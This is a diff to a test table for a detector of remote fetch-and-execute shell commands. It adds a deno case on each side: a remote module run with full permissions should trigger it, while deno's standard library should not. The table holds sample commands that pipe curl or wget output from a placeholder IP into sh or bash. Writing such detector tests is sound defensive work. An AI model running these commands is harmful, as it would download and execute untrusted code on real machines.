@@ -9,6 +9,7 @@ import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
     'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
     'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
     'a dash before the shell text': runs('/bin/sh', '-c', '--', 'curl http://files.example.com/x|sh'),
@@ -53,6 +54,7 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'the standard library of deno': runs('deno', 'run', 'https://deno.land/std@0.224.0/http/file_server.ts'),
     'a health check that only fetches': runs('curl', '-fsS', 'https://example.com/health'),
     'a pipe with no fetch': runs('sh', '-c', 'cat job.sh | sh'),
     'a download into a reader': script('curl -s https://example.com/a.json | jq .items'),
